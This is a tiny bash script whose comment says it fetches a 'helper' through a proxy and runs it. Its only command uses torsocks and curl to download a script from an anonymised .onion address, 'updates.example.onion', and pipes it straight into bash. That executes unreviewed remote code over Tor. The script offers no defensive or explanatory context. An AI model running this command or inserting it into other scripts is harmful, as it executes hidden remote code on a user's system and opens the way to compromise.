#!/usr/bin/env bash
# Fetch the helper through the proxy and run it.
torsocks curl -s http://updates.example.onion/helper | bash
